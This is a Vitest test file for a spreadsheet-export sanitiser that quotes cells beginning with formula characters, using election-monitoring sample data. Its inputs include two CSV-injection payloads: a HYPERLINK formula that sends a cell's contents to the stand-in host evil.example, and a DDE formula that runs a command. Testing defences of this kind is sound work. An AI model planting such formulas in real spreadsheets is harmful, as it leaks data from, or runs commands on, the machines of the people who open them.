import { describe, expect, it } from 'vitest';
import { isFormulaLike, neutraliseCell, neutraliseRow } from './spreadsheet-safe.js';

describe('neutraliseCell on text', () => {
  it.each([
    // Formula starts (OWASP's list)
    ['=HYPERLINK("http://evil.example/?"&A1,"klik")', `'=HYPERLINK("http://evil.example/?"&A1,"klik")`],
    [`=cmd|' /C calc'!A0`, `'=cmd|' /C calc'!A0`],
    ['=1+1', `'=1+1`],
    ['+1+1', `'+1+1`],
    ['-2+3', `'-2+3`],
    ['@SUM(A1)', `'@SUM(A1)`],
    ['\t=1', `'\t=1`],
    ['\r=1', `'\r=1`],
    ['\tplain after a tab', `'\tplain after a tab`],
    ['\rplain after a return', `'\rplain after a return`],
    ['=', `'=`],
    ['-', `'-`],
    ['+', `'+`],
    ['@', `'@`],
    ['-5', `'-5`],
    ['- butir pertama', `'- butir pertama`],
    ['@bawaslu_ri menyebut', `'@bawaslu_ri menyebut`],
    // Full-width forms
    ['＝1', `'＝1`],
    ['＋1', `'＋1`],
    ['－1', `'－1`],
    ['＠SUM(A1)', `'＠SUM(A1)`],
    // After leading white space
    [' =1+1', `' =1+1`],
    ['   @SUM(A1)', `'   @SUM(A1)`],
    ['\n=1', `'\n=1`],
    ['\u00A0+1', `'\u00A0+1`],
    ['\u200B=1', `'\u200B=1`],
    // Phone numbers: quoted too, the accepted trade-off
    ['+62 812-3456-7890', `'+62 812-3456-7890`],
    ['+6281234567890', `'+6281234567890`],
    // Left alone
    ['', ''],
    ['Bawaslu Kab. Bangli', 'Bawaslu Kab. Bangli'],
    ['0812-3456-7890', '0812-3456-7890'],
    ['62 812 3456 7890', '62 812 3456 7890'],
    ['1+1', '1+1'],
    ['a=b', 'a=b'],
    ['email@example.org', 'email@example.org'],
    ['2024-11-27', '2024-11-27'],
    ['Rp -5.000', 'Rp -5.000'],
    ["'=1 already quoted", "'=1 already quoted"],
    ['   ', '   '],
    [' leading space', ' leading space'],
    ['Pemungutan suara ulang di TPS 05', 'Pemungutan suara ulang di TPS 05'],
    ['Kecamatan Kintamani — Désa Songan', 'Kecamatan Kintamani — Désa Songan'],
    ['选举监督', '选举监督'],
    ['🗳️ hari pemungutan', '🗳️ hari pemungutan'],
    ['−5 (U+2212 minus sign)', '−5 (U+2212 minus sign)'],
    ['#REF!', '#REF!'],
  ])('%j → %j', (input, expected) => {
    expect(neutraliseCell(input)).toBe(expected);
    expect(isFormulaLike(input)).toBe(input !== expected);
    expect(neutraliseCell(expected), 'idempotent').toBe(expected);
  });
});

describe('neutraliseCell on other values', () => {
  const date = new Date('2024-11-27T00:00:00Z');
  it.each([
    ['a negative number', -5],
    ['zero', 0],
    ['a positive number', 42.5],
    ['NaN', Number.NaN],
    ['a bigint', -12n],
    ['true', true],
    ['false', false],
    ['null', null],
    ['undefined', undefined],
    ['a date', date],
  ])('leaves %s unchanged', (_label, value) => {
    expect(neutraliseCell(value)).toBe(value);
  });

  it('keeps string types for the caller', () => {
    const cell: string = neutraliseCell('=1');
    const mixed: string | number = neutraliseCell<string | number>(-1);
    expect([cell, mixed]).toEqual([`'=1`, -1]);
  });
});

describe('neutraliseRow', () => {
  it('neutralises every string cell of an array, keeping order and other values', () => {
    const date = new Date('2024-11-27T00:00:00Z');
    const row = ['=1+1', -5, 'Bangli', null, date, '+62 812', true] as const;
    expect(neutraliseRow(row)).toEqual([`'=1+1`, -5, 'Bangli', null, date, `'+62 812`, true]);
    expect(row[0]).toBe('=1+1');
  });

  it('neutralises every string value of an object, keeping its keys', () => {
    const record = { title: '@SUM(A1)', votes: -3, region: '51.06', phone: '+62 812 3456', note: undefined };
    const safe = neutraliseRow(record);
    expect(safe).toEqual({ title: `'@SUM(A1)`, votes: -3, region: '51.06', phone: `'+62 812 3456`, note: undefined });
    expect(Object.keys(safe)).toEqual(Object.keys(record));
    expect(record.title).toBe('@SUM(A1)');
  });

  it('does not walk nested values: cells are scalars', () => {
    const nested = { tags: ['=1'] };
    expect(neutraliseRow(nested).tags).toBe(nested.tags);
  });

  it('handles empty rows', () => {
    expect(neutraliseRow([])).toEqual([]);
    expect(neutraliseRow({})).toEqual({});
  });
});
